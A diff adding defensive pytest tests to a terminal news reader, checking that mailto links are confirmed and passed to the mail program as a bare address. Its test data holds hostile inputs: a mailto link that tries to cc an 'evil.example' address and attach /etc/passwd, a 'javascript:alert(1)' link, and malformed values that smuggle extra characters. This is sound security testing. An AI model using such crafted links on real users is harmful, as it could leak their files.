@@ -9,6 +9,8 @@ from pathlib import Path
 import pytest
 
 from tests.ui.conftest import Newsroom, Open
+from tui_reader.model.document import Paragraph, Span
+from tui_reader.model.urls import mail_address
 from tui_reader.ui.browser import command
 
 RECORDER = '#!/bin/sh\nfor one in "$@"; do printf \'%s\\n\' "$one"; done > "$0.out.part"\nmv "$0.out.part" "$0.out"\n'
@@ -95,3 +97,45 @@ async def test_an_article_without_an_address_says_so(newsroom: Newsroom, reading
     async with reading() as reader:
         reader.screen.late.addresses.follow("javascript:alert(1)")
         assert "cannot be opened" in reader.notice
+
+
+MAIL = "mailto:toa.soan+a@bao.example?cc=x@evil.example&attach=/etc/passwd"
+
+
+@pytest.mark.hostile("H52")
+async def test_a_mail_address_asks_first_and_goes_to_the_mail_program_bare(
+    newsroom: Newsroom, reading: Open, recorder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    one, *_ = newsroom.articles("One")
+    newsroom.text(one, Paragraph((Span("viết", href=MAIL),)))
+    opener = recorder.with_name("xdg-open")
+    opener.symlink_to(recorder)
+    monkeypatch.setenv("PATH", f"{opener.parent}:{os.environ['PATH']}")
+    monkeypatch.setenv("DISPLAY", ":0")
+    monkeypatch.delenv("SSH_CONNECTION", raising=False)
+    async with reading() as reader:
+        await reader.press("enter", "tab", "enter")
+        assert "toa.soan+a@bao.example" in reader.notice
+        assert not list(recorder.parent.glob("*.out"))
+        await reader.press("enter")
+        while not list(recorder.parent.glob("*.out")):
+            await reader.pilot.pause(0.02)
+    assert next(recorder.parent.glob("*.out")).read_text() == "mailto:toa.soan+a@bao.example\n"
+
+
+@pytest.mark.hostile("H52")
+@pytest.mark.parametrize(
+    "url",
+    [
+        "mailto:",
+        "mailto:a",
+        "mailto:a@b c",
+        "mailto:-@",
+        "mailto:a@b;x",
+        "tel:1",
+        "mailto:a@b\n",
+        "https://a@b/",
+    ],
+)
+def test_what_is_no_plain_mail_address_is_none(url: str) -> None:
+    assert mail_address(url) == ""
